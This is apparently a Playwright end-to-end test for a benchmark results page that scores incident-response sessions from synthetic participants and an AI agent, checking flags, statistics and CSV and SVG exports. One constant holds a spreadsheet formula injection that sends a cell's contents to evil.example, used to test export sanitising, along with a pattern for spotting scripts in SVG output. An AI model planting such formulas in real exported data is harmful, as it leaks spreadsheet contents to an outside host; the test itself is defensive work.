import { strToU8, zipSync } from 'fflate';
import Papa from 'papaparse';
import { ActionRow, EpisodeRow, type StudySession } from '../../src/schema';
import { expect, savedBy, scenarioOf, syntheticSessions, test } from '../study/fixtures';

const [SKILL, LEARNING] = [0.5, 0.1];

const textOf = (session: StudySession): string => JSON.stringify(session, null, 2);

/** What a spreadsheet would run. */
const FORMULA = '=HYPERLINK("https://evil.example/?"&A1)';

/** Five runs of an agent that knows one of two incidents, as JSON lines that do not say whose they are. */
function agentRuns(): string {
  const { correct_severity, key_evidence } = scenarioOf('AC-001');
  const asked = key_evidence.map(({ tool, service }) => ({ action_type: tool, parameters: { service } }));
  const severity = { severity: correct_severity, evidence: key_evidence };
  const refused = { service: FORMULA, failure_mode: '-1+1' };
  const cause = { service: 'forum-web', failure_mode: 'cpu_saturated', trigger: 'load' };
  const histories = {
    'AC-001': [...asked, { action_type: 'submit_severity', parameters: severity }],
    'RCA-004': [
      { action_type: 'submit_root_cause', parameters: refused },
      { action_type: 'submit_root_cause', parameters: cause },
    ],
  };
  return [1, 2, 3, 4, 5]
    .flatMap((run) =>
      Object.entries(histories).map(([scenario_id, action_history]) =>
        JSON.stringify({ scenario_id, ruleset: 'strict-1', run, action_history }),
      ),
    )
    .join('\n');
}

/** Whether a stated interval, `0.42–0.61` or `0.02 to 0.13`, holds a value. */
function expectWithin(value: number, text: string): void {
  const [low = NaN, high = NaN] = (text.match(/−?\d\.\d+/g) ?? []).map((end) => Number(end.replace('−', '-')));
  expect(low, text).toBeLessThanOrEqual(value);
  expect(high, text).toBeGreaterThanOrEqual(value);
}

const rowsOf = (csv: string): Record<string, string>[] => {
  const { data, errors } = Papa.parse<Record<string, string>>(csv, { header: true });
  expect(errors).toEqual([]);
  return data;
};

test('files of people whose parameters are known, and of an agent, are executed again, flagged and summed up', async ({
  app,
  browserName,
  page,
  results,
}) => {
  const sessions = await syntheticSessions({ participants: 20, skill: SKILL, learning: LEARNING, quits: 2 });
  const files = Object.fromEntries(sessions.map((session) => [`${session.participant}.json`, textOf(session)]));
  const [tampered] = sessions.slice(9);
  if (!tampered) throw new Error('There are twenty.');
  const position = tampered.episodes.findIndex(({ practice, grade }) => !practice && grade === 1);
  const altered = {
    ...tampered,
    episodes: tampered.episodes.map((episode, index) => (index === position ? { ...episode, grade: 0.25 } : episode)),
  };
  files[`${tampered.participant}.json`] = textOf(altered);

  await test.step('some files are dropped on the benchmark, and the runs of an agent get its name', async () => {
    await page.goto('./#/bench');
    await results.drop(page.getByRole('heading', { level: 1 }), {
      'S-003 again.json': files['S-003.json'] ?? '',
      'broken.json': '{"a',
      'runs.jsonl': agentRuns(),
    });
    await expect(page.getByRole('heading', { level: 1, name: 'Results' })).toBeVisible();
    await expect(app.problem('broken.json')).toContainText('broken.json is not valid JSON.');
    await page.getByRole('button', { name: 'Remove broken.json' }).click();
    await expect(app.problem('broken.json')).toBeHidden();
    const actor = page.getByRole('group', { name: 'Who made the runs in runs.jsonl' });
    // Typed: Firefox does not report a change of what a program filled in.
    const name = actor.getByRole('textbox', { name: 'Name' });
    await name.press('ControlOrMeta+a');
    await name.pressSequentially('my-model');
    await name.press('Enter');
    await results.expectEvaluated();
    expect(await results.grades('my-model agent')).toMatchObject({ episodes: '10', participants: '5', mean: '0.50' });
  });

  await test.step('twenty more are chosen, in a zip with one that is damaged', async () => {
    const members = Object.entries({ ...files, 'torn.json': '{"a' }).map(([name, text]) => [
      `pilot/${name}`,
      strToU8(text),
    ]);
    await results.choose({ 'study.zip': zipSync(Object.fromEntries(members) as Record<string, Uint8Array>) });
    await expect(app.problem('study.zip/pilot/torn.json')).toContainText(
      'study.zip/pilot/torn.json is not valid JSON.',
    );
    await page.getByRole('button', { name: 'Remove study.zip/pilot/torn.json' }).click();
    await results.expectEvaluated();
    await expect(results.part('Files')).toContainText('21 files with 21 sessions');
  });

  await test.step('what does not fit is listed with its place', async () => {
    const misfits = results.part('What did not fit');
    await expect(misfits).toContainText('1 flag');
    await expect(misfits).toContainText(
      `${tampered.participant} Incident ${position}: the recorded grade 0.25 comes out as 1`,
    );
    await expect(misfits).toContainText('1 session in more than one file');
    await expect(misfits).toContainText(
      'S-003 again.json, study.zip/pilot/S-003.json: they are the same, and count once',
    );
  });

  const episodes = 18 * 6 + 2 * 2;
  await test.step('the parameters are recovered', async () => {
    const people = await results.grades('Participants people');
    expect(people).toMatchObject({ episodes: String(episodes), participants: '20' });
    expectWithin(SKILL, people.interval);
    const slope = results.part('Learning').getByText(/^From one incident to the next the grade rises by /);
    expectWithin(LEARNING, /interval (.*?)\)/.exec((await slope.textContent()) ?? '')?.[1] ?? '');
    await expect(results.part('Effort')).toContainText('2 of 20 sessions were quit.');
    await expect(results.part('Grades')).toContainText('Not all have worked the same 6 incidents: my-model 2.');
    expect(await results.grades('Expert policy')).toMatchObject({ episodes: '6', mean: '1.00' });
  });

  await app.expectNoSidewaysScroll();
  await app.expectAccessibleInBothThemes('results');

  // The protocol that drives Firefox reports no downloads.
  if (browserName === 'chromium') {
    await test.step('tables hold every row, and nothing that a spreadsheet would run', async () => {
      const { mean } = await results.grades('Participants people');
      const saved = async (name: string) => savedBy(page, page.getByRole('button', { name, exact: true }));

      const all = await saved('Episodes (CSV)');
      const rows = rowsOf(all.text);
      expect([all.name, Object.keys(rows[0] ?? {})]).toEqual(['episodes.csv', Object.keys(EpisodeRow.shape)]);
      expect(rows).toHaveLength(18 * 7 + 2 * 4 + 10);
      const counted = rows.filter(
        ({ actor_kind, practice, grade }) => actor_kind === 'human' && practice === 'false' && grade,
      );
      expect(counted).toHaveLength(episodes);
      expect((counted.reduce((sum, { grade }) => sum + Number(grade), 0) / episodes).toFixed(2)).toBe(mean);

      const steps = await saved('Actions (CSV)');
      const actions = rowsOf(steps.text);
      expect([steps.name, Object.keys(actions[0] ?? {})]).toEqual(['actions.csv', Object.keys(ActionRow.shape)]);
      expect(
        new Set(actions.map(({ object = '' }) => object).filter((object) => object.includes('HYPERLINK'))),
      ).toEqual(new Set([`'${FORMULA}: -1+1`]));
      for (const row of [...rows, ...actions])
        for (const cell of Object.values(row))
          if (!Number.isFinite(Number(cell))) expect(cell).not.toMatch(/^\s*[=+\-@]/);

      const summary = await saved('Summary (CSV)');
      expect(rowsOf(summary.text)[0]).toMatchObject({
        ...{ actor_kind: 'human', actor_name: 'participants', task_id: '' },
        ...{ episodes: String(episodes), participants: '20' },
      });
    });

    await test.step('a figure is a file that stands alone', async () => {
      const { name, text } = await savedBy(
        page,
        page.getByRole('button', { name: 'Save the figure “Mean grades by group” as SVG' }),
      );
      expect(name).toBe('grades.svg');
      expect(text).not.toMatch(/<script|var\(|currentColor|\son\w+=|javascript:/i);
      // In a page without a content security policy, where text may be parsed.
      const blank = await page.context().newPage();
      const found = await blank.evaluate((svg) => {
        const parsed = new DOMParser().parseFromString(svg, 'image/svg+xml');
        const rules = [...parsed.querySelectorAll('style')].map(({ textContent }) => textContent).join('\n');
        const classes = [...parsed.querySelectorAll('[class]')].flatMap(({ classList }) => [...classList]);
        return {
          root: parsed.documentElement.localName,
          title: parsed.querySelector('title')?.textContent,
          error: parsed.querySelector('parsererror')?.textContent,
          texts: [...parsed.querySelectorAll('text')].map(({ textContent }) => textContent),
          unruled: classes.filter((each) => !rules.includes(`.${each}`)),
        };
      }, text);
      await blank.close();
      expect(found).toMatchObject({ root: 'svg', title: 'Mean grades by group', error: undefined, unruled: [] });
      expect(found.texts.join(' ')).toMatch(/Participants.*my-model/);
    });
  }

  await test.step('flagged sessions can be left out', async () => {
    await page.getByRole('checkbox', { name: 'Count sessions and runs with flags too' }).uncheck();
    await results.expectEvaluated();
    const people = await results.grades('Participants people');
    expect(people).toMatchObject({ episodes: String(episodes - 6), participants: '19' });
  });
});
